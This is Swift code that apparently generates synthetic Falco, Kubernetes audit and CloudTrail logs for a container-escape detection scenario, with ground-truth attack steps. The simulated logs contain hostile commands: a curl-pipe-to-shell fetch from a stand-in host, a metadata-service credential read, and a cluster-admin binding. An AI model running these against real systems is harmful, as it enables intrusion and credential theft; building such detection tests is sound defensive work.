/// Scenario 3: a web pod is exploited, its service account execs and grants itself cluster-admin,
/// and the node role's credentials from the instance metadata service are used against AWS.
///
/// The cluster uses an overlay network (pods in 10.244.0.0/16) that masquerades pod traffic to the
/// node address, so the API server and AWS both see the node's IP for calls made from the pod.
struct ContainerEscapeScenario {
    static let namespace = "shop"
    static let pod = "web-7d9f"
    static let serviceAccount = "system:serviceaccount:shop:web"
    static let containerID = "3f1a9c2e7b4d"
    static let nodeRole = "eks-node-role-shop-prod"

    func write(_ context: ScenarioContext, id: String, at start: Int64) -> AttackTruth {
        let company = context.company
        let node = company.nodes[0]
        let seconds: Int64 = 1_000_000
        var log = AttackLog()
        let podFields: [(String, String)] = [
            ("container.id", Self.containerID), ("container.name", "web"),
            ("container.image.repository", "registry.corp.example/shop/web"), ("container.image.tag", "2026.11.3"),
            ("k8s.ns.name", Self.namespace), ("k8s.pod.name", Self.pod),
        ]

        log.step("An attacker exploits the shop web application and gets a shell in pod \(Self.pod) (namespace \(Self.namespace)).")
        var t = start
        log.detection(context.emit(.falco, at: t, FalcoRecords.alert(.init(
            rule: "Terminal shell in container", priority: "Notice",
            message: "A shell was spawned in a container with an attached terminal (evt_type=execve user=node user_uid=1000 user_loginuid=-1 process=sh proc_exepath=/bin/sh parent=node command=sh -c curl -s http://198.51.100.99/s.sh | sh terminal=34816 exe_flags=EXE_WRITABLE container_id=\(Self.containerID) container_name=web k8s_ns=\(Self.namespace) k8s_pod_name=\(Self.pod))",
            tags: ["T1059", "container", "maturity_stable", "mitre_execution", "shell"], hostname: node.name,
            fields: podFields + [("evt.type", "execve"), ("proc.cmdline", "sh -c curl -s http://198.51.100.99/s.sh | sh"),
                                 ("proc.exepath", "/bin/sh"), ("proc.name", "sh"), ("proc.pname", "node"),
                                 ("user.loginuid", "-1"), ("user.name", "node"), ("user.uid", "1000")]), time: t)))

        log.step("From the pod the attacker reads the node role's credentials from the instance metadata service.")
        t += 70 * seconds
        log.detection(context.emit(.falco, at: t, FalcoRecords.alert(.init(
            rule: "Contact EC2 Instance Metadata Service From Container", priority: "Notice",
            message: "Outbound connection to EC2 instance metadata service (connection=10.244.1.23:41872->169.254.169.254:80 command=curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/\(Self.nodeRole) container_id=\(Self.containerID) k8s_ns=\(Self.namespace) k8s_pod_name=\(Self.pod))",
            tags: ["T1552.005", "aws", "container", "mitre_credential_access", "network"], hostname: node.name,
            fields: podFields + [("fd.name", "10.244.1.23:41872->169.254.169.254:80"),
                                 ("proc.cmdline", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/\(Self.nodeRole)"),
                                 ("proc.name", "curl"), ("user.name", "node")]), time: t)))

        log.step("Using the pod's service-account token the attacker execs into the pod and binds the account to cluster-admin.")
        t += 95 * seconds
        let kubectl = "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46"
        let groups = ["system:serviceaccounts", "system:serviceaccounts:shop", "system:authenticated"]
        log.add(context.emit(.k8sAudit, at: t, KubernetesAuditRecords.event(.init(
            verb: "create", username: Self.serviceAccount, groups: groups, sourceIP: node.ip, userAgent: kubectl,
            resource: "pods", namespace: Self.namespace, name: Self.pod, subresource: "exec",
            requestURI: "/api/v1/namespaces/shop/pods/\(Self.pod)/exec?command=sh&container=web&stdin=true&stdout=true&tty=true",
            status: 101), auditID: context.random.uuid(), time: t)))
        t += 40 * seconds
        log.add(context.emit(.k8sAudit, at: t, KubernetesAuditRecords.event(.init(
            verb: "list", username: Self.serviceAccount, groups: groups, sourceIP: node.ip, userAgent: kubectl,
            resource: "secrets", namespace: Self.namespace, requestURI: "/api/v1/namespaces/shop/secrets?limit=500",
            status: 200), auditID: context.random.uuid(), time: t)))
        t += 25 * seconds
        let bindingTime = t
        log.add(context.emit(.k8sAudit, at: t, KubernetesAuditRecords.event(.init(
            verb: "create", username: Self.serviceAccount, groups: groups, sourceIP: node.ip, userAgent: kubectl,
            resource: "clusterrolebindings", name: "shop-web-admin", apiGroup: "rbac.authorization.k8s.io",
            requestURI: "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create&fieldValidation=Strict",
            status: 201, requestObject: { body in
                body.string("kind", "ClusterRoleBinding")
                body.string("apiVersion", "rbac.authorization.k8s.io/v1")
                body.object("metadata") { $0.string("name", "shop-web-admin") }
                body.objects("subjects", count: 1) { subject, _ in
                    subject.string("kind", "ServiceAccount")
                    subject.string("name", "web")
                    subject.string("namespace", Self.namespace)
                }
                body.object("roleRef") { ref in
                    ref.string("apiGroup", "rbac.authorization.k8s.io")
                    ref.string("kind", "ClusterRole")
                    ref.string("name", "cluster-admin")
                }
            }), auditID: context.random.uuid(), time: t)))
        log.detection(context.emit(.falco, at: bindingTime + 300_000, FalcoRecords.alert(.init(
            rule: "Attach to cluster-admin Role", priority: "Warning",
            message: "Cluster Role Binding to cluster-admin role (user=\(Self.serviceAccount) subject=web/\(Self.namespace) binding=shop-web-admin)",
            source: "k8s_audit", tags: ["T1098", "k8s", "maturity_stable", "mitre_privilege_escalation"], hostname: node.name,
            fields: [("ka.req.binding.role", "cluster-admin"), ("ka.req.binding.subjects", "[{\"kind\":\"ServiceAccount\",\"name\":\"web\",\"namespace\":\"shop\"}]"),
                     ("ka.target.name", "shop-web-admin"), ("ka.user.name", Self.serviceAccount), ("ka.verb", "create"),
                     ("k8s.ns.name", Self.namespace), ("k8s.pod.name", Self.pod)]), time: bindingTime + 300_000)))

        log.step("With the node role's stolen credentials the attacker calls AWS from the node's address: identity, buckets, secrets.")
        t += 150 * seconds
        let roleID = "AROA" + context.random.upperAlphanumeric(17)
        let key = "ASIA" + context.random.upperAlphanumeric(16)
        let identity = CloudTrailRecords.Identity.assumedRole(
            account: company.awsAccountID, role: Self.nodeRole, roleID: roleID, session: node.instanceID,
            accessKey: key, created: start - 3 * 3600 * seconds)
        let cli = "aws-cli/2.18.4 md/awscrt#0.22.0 ua/2.0 os/linux#5.10.227-219.884.amzn2.x86_64 md/arch#x86_64 lang/python#3.12.6 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe md/prompt#off"
        let calls: [(String, String, String, Bool, String?)] = [
            ("sts.amazonaws.com", "GetCallerIdentity", "sts.get-caller-identity", true, nil),
            ("s3.amazonaws.com", "ListBuckets", "s3.ls", true, nil),
            ("iam.amazonaws.com", "ListRoles", "iam.list-roles", true, "AccessDenied"),
            ("secretsmanager.amazonaws.com", "ListSecrets", "secretsmanager.list-secrets", true, nil),
            ("secretsmanager.amazonaws.com", "GetSecretValue", "secretsmanager.get-secret-value", true, nil),
        ]
        for (index, (source, name, command, readOnly, error)) in calls.enumerated() {
            let callTime = t + Int64(index) * 21 * seconds
            var call = CloudTrailRecords.Call(eventSource: source, eventName: name, sourceIP: node.ip,
                                              userAgent: cli + " md/command#" + command, readOnly: readOnly)
            call.vpcEndpointID = source.hasPrefix("iam") ? nil : "vpce-0d1e2f3a4b5c6d7e8"
            if let error {
                call.errorCode = error
                call.errorMessage = "User: \(identity.arn) is not authorized to perform: iam:ListRoles on resource: arn:aws:iam::\(company.awsAccountID):role/ because no identity-based policy allows the iam:ListRoles action"
            }
            if name == "GetSecretValue" {
                call.requestParameters = { $0.string("secretId", "prod/shop/postgres") }
            }
            log.add(context.emit(.cloudtrail, at: callTime, CloudTrailRecords.record(
                call, identity: identity, eventID: context.random.uuid(), requestID: context.random.uuid(),
                recipientAccount: company.awsAccountID, time: callTime)))
        }

        return AttackTruth(
            id: id, kind: .containerEscape, tenant: context.tenant,
            summary: "Shell in container \(Self.pod) → exec and cluster-admin binding by \(Self.serviceAccount) → AWS calls with the node role from \(node.ip)",
            steps: log.steps, detections: log.detections, layers: [.cloud],
            titleFragments: ["shell", "cluster-admin"], minimumSeverity: .high,
            keyEntities: [Self.pod, Self.serviceAccount, node.ip, node.instanceID])
    }
}
